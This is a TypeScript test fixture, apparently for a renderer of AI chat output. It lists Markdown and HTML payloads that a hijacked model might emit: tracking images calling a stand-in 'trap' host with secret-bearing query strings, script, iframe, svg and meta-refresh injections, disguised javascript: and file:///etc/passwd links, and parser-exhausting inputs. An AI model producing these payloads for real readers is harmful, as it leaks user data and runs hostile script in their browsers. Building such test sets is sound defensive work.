/** What a model that was taken over may answer in order to reach the network, the panel or the reader. */

export interface Vector {
  name: string;
  markdown: string;
  /** Words that must be on the screen all the same; the Markdown itself when not said. */
  visible?: string;
}

/** Every way we know to make a careless reader of Markdown load, run or cover something. `trap` is an address. */
export const vectors = (trap: string): Vector[] => [
  // Images, which load without a click
  { name: 'image', markdown: `![alpha pixel](${trap}/1?q=secret)`, visible: 'alpha pixel' },
  { name: 'image with a title', markdown: `![beta pixel](<${trap}/2> "title")`, visible: 'beta pixel' },
  { name: 'image without a name', markdown: `gamma ![](${trap}/3) gamma`, visible: 'gamma' },
  { name: 'reference image', markdown: `![delta pixel][r1]\n\n[r1]: ${trap}/4`, visible: 'delta pixel' },
  { name: 'collapsed reference', markdown: `![epsilon][]\n\n[epsilon]: ${trap}/5`, visible: 'epsilon' },
  { name: 'image in a link', markdown: `[![zeta](${trap}/6)](${trap}/6b)`, visible: 'zeta' },
  { name: 'image in emphasis', markdown: `**bold ![eta](${trap}/7) bold**`, visible: 'eta' },
  { name: 'image in a heading', markdown: `### theta ![pic](${trap}/8)`, visible: 'theta' },
  { name: 'image without a scheme', markdown: `![iota](//${trap.slice(7)}/9)`, visible: 'iota' },
  { name: 'image as data', markdown: '![kappa](data:image/svg+xml,<svg onload=alert(1)>)', visible: 'kappa' },
  {
    name: 'image in a table',
    markdown: `| lambda | mu |\n|---|---|\n| ![cell](${trap}/10) | <img src="${trap}/11"> |`,
    visible: `<img src="${trap}/11">`,
  },
  { name: 'image in a list', markdown: `1. first\n   - ![nu](${trap}/12)`, visible: 'nu' },
  { name: 'image in a quote', markdown: `> said ![xi](${trap}/13)`, visible: 'xi' },
  { name: 'image over two lines', markdown: `![omicron\npixel](${trap}/14)`, visible: 'omicron pixel' },
  { name: 'image that stays open', markdown: `![pi](${trap}/15?data=never-closed` },
  // HTML, which must stay the characters that it is
  { name: 'img', markdown: `<img src="${trap}/20" onerror="alert(1)">` },
  { name: 'img in a line', markdown: `rho <img src=${trap}/21> sigma` },
  { name: 'img with srcset', markdown: `<img srcset="${trap}/22 1x" loading=eager>` },
  { name: 'picture', markdown: `<picture><source srcset="${trap}/23"><img></picture>` },
  { name: 'script', markdown: `<script>fetch("${trap}/24")</script>` },
  { name: 'script from elsewhere', markdown: `<script src="${trap}/25"></script>` },
  { name: 'iframe', markdown: `<iframe src="${trap}/26" srcdoc="<script>alert(1)</script>"></iframe>` },
  { name: 'svg', markdown: `<svg onload="alert(1)"><image href="${trap}/27"/></svg>` },
  { name: 'style', markdown: `<style>@import "${trap}/28"; body{background:url(${trap}/29)}</style>` },
  {
    name: 'style on an element',
    markdown: `<div style="position:fixed;inset:0;background:url(${trap}/30)">tau</div>`,
  },
  { name: 'meta refresh', markdown: `<meta http-equiv="refresh" content="0;url=${trap}/31">` },
  {
    name: 'link',
    markdown: `<link rel="stylesheet" href="${trap}/32"><link rel="preconnect" href="${trap}">`,
  },
  { name: 'base', markdown: `<base href="${trap}/33/">` },
  {
    name: 'form',
    markdown: `<form action="${trap}/34"><input autofocus onfocus=alert(1)><button>go</button></form>`,
  },
  { name: 'object', markdown: `<object data="${trap}/35"></object><embed src="${trap}/36">` },
  { name: 'video', markdown: `<video autoplay poster="${trap}/37"><source src="${trap}/38"></video>` },
  { name: 'anchor', markdown: `<a href="${trap}/39" ping="${trap}/40">upsilon</a>` },
  { name: 'comment', markdown: `<!-- <img src="${trap}/41"> -->` },
  { name: 'tag that stays open', markdown: `phi <img src="${trap}/42" alt="` },
  { name: 'math in XML', markdown: `<math><mtext><img src="${trap}/43"></mtext></math>` },
  // Links, which wait for a click; some may not be clicked at all
  { name: 'script address', markdown: '[chi](javascript:alert(document.domain))', visible: 'chi' },
  { name: 'script address in disguise', markdown: '[psi](JaVaScRiPt&colon;alert(1))', visible: 'psi' },
  { name: 'script address by entity', markdown: '[omega](&#x6a;avascript:alert(1))', visible: 'omega' },
  { name: 'data address', markdown: '[alif](data:text/html,<script>alert(1)</script>)', visible: 'alif' },
  {
    name: 'address of the browser',
    markdown: '[ba](chrome://settings) [ta](file:///etc/passwd)',
    visible: 'ba',
  },
  { name: 'autolink', markdown: `<${trap}/50>`, visible: `${trap}/50` },
  { name: 'bare address', markdown: `see ${trap}/51?x=1 there`, visible: `${trap}/51?x=1` },
  { name: 'reference link', markdown: `[jim][r2]\n\n[r2]: ${trap}/52`, visible: 'jim' },
  { name: 'link that stays open', markdown: `[dal](${trap}/53?data=never-closed` },
  // Entities and blocks that other readers run
  { name: 'entities', markdown: `&lt;img src="${trap}/60"&gt;`, visible: `<img src="${trap}/60">` },
  { name: 'formula', markdown: `$$\\includegraphics{${trap}/61} \\href{${trap}/62}{x}$$` },
  { name: 'HTML in a formula', markdown: `$\\htmlStyle{background:url(${trap}/63)}{y}$` },
  {
    name: 'diagram',
    markdown: `\`\`\`mermaid\ngraph TD; A["<img src='${trap}/64'>"] --> B; click A href "${trap}/65"\n\`\`\``,
    visible: `A["<img src='${trap}/64'>"] --> B; click A href "${trap}/65"`,
  },
  {
    name: 'HTML as code',
    markdown: `\`\`\`html\n<script src="${trap}/66"></script>\n\`\`\``,
    visible: `<script src="${trap}/66"></script>`,
  },
  {
    name: 'code that stays open',
    markdown: `\`\`\`\n<img src="${trap}/67">`,
    visible: `<img src="${trap}/67">`,
  },
];

/** Long and deep answers, which cost careless readers their time. */
export const heavy: Vector[] = [
  { name: 'a line without an end', markdown: `raa ${'x'.repeat(20_000)}`, visible: 'raa' },
  { name: 'brackets that never close', markdown: `zay ${'['.repeat(3_000)}`, visible: 'zay' },
  { name: 'images that never close', markdown: `sin ${'![a]('.repeat(1_500)}`, visible: 'sin' },
  { name: 'stars', markdown: `shin ${'*a **'.repeat(1_500)}`, visible: 'shin' },
  { name: 'quotes in quotes', markdown: `${'>'.repeat(300)} sad`, visible: 'sad' },
  {
    name: 'lists in lists',
    markdown: Array.from({ length: 60 }, (_, depth) => `${'  '.repeat(depth)}- dad ${depth}`).join('\n'),
    visible: 'dad 59',
  },
  {
    name: 'a wide table',
    markdown: `|${' tah |'.repeat(300)}\n|${'---|'.repeat(300)}\n|${' 1 |'.repeat(300)}`,
    visible: 'tah',
  },
];
